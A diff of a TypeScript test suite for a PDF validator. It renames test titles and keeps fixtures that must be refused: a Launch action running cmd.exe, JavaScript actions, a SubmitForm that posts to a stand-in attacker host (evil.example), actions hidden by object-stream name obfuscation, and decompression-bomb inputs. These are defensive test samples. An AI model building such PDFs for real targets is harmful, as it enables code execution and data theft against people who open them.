@@ -8,7 +8,7 @@ import { flate, makePdf, objectStream, stream } from '../../support/pdf/make-pdf
 const launch = '<< /Type /Action /S /Launch /F (cmd.exe) >>';
 const script = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';
 
-describe('a PDF that may be kept', () => {
+describe('a harmless PDF', () => {
   it.each<[string, Buffer]>([
     ['one of ours', PDF],
     ['a page', makePdf()],
@@ -23,12 +23,12 @@ describe('a PDF that may be kept', () => {
       'a text that speaks of scripts',
       makePdf({ objects: [stream('/Filter /FlateDecode', flate('(/S /JavaScript /Launch) Tj'))] }),
     ],
-  ])('%s', async (_what, content) => {
+  ])('is accepted: %s', async (_what, content) => {
     expect((await pagesOfPdf(content)) !== undefined).toBe(true);
   });
 });
 
-describe('what only pretends to be a PDF, or is more than one, is refused (S-66)', () => {
+describe('a file that is not a valid PDF, or not only a PDF (S-66)', () => {
   const pdf = makePdf();
   it.each<[string, Uint8Array]>([
     ['nothing', Buffer.alloc(0)],
@@ -54,12 +54,12 @@ describe('what only pretends to be a PDF, or is more than one, is refused (S-66)
         trailer: `/Encrypt 5 0 R /ID [<${'00'.repeat(16)}> <${'00'.repeat(16)}>]`,
       }),
     ],
-  ])('%s', async (_what, content) => {
+  ])('is refused: %s', async (_what, content) => {
     expect((await pagesOfPdf(Buffer.from(content))) !== undefined).toBe(false);
   });
 });
 
-describe('a document that acts is refused (S-67)', () => {
+describe('a PDF with active content (S-67)', () => {
   it.each(
     sampled<[string, Buffer]>([
       ['a script at its opening', makePdf({ catalog: `/OpenAction ${script}` })],
@@ -87,7 +87,7 @@ describe('a document that acts is refused (S-67)', () => {
       ['rich media', makePdf({ objects: ['<< /Type /Annot /Subtype /RichMedia >>'] })],
       ['a form to send', makePdf({ objects: ['<< /S /SubmitForm /F (https://evil.example) >>'] })],
     ]),
-  )('%s', async (_what, content) => {
+  )('is refused: %s', async (_what, content) => {
     expect((await pagesOfPdf(content)) !== undefined).toBe(false);
   });
 
@@ -118,12 +118,12 @@ describe('a document that acts is refused (S-67)', () => {
         makePdf({ objects: [replaced(objectStream(launch), '/ObjStm', '/Obj#53tm')] }),
       ],
     ]),
-  )('hidden %s', async (_what, content) => {
+  )('is refused when the action is hidden %s', async (_what, content) => {
     expect((await pagesOfPdf(content)) !== undefined).toBe(false);
   });
 });
 
-describe('a document that grows when it is opened is refused, and the server goes on (S-68)', () => {
+describe('a PDF that needs too much memory or time (S-68)', () => {
   it.each(
     sampled<[string, () => Buffer]>([
       [
@@ -141,7 +141,7 @@ describe('a document that grows when it is opened is refused, and the server goe
         () => Buffer.from(`%PDF-1.7\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Prev 9 >>\nstartxref\n9\n%%EOF\n`),
       ],
     ]),
-  )('%s', async (_what, make) => {
+  )('is refused, and the next PDF is still accepted: %s', async (_what, make) => {
     expect((await pagesOfPdf(make())) !== undefined).toBe(false);
     expect((await pagesOfPdf(makePdf())) !== undefined).toBe(true);
   });
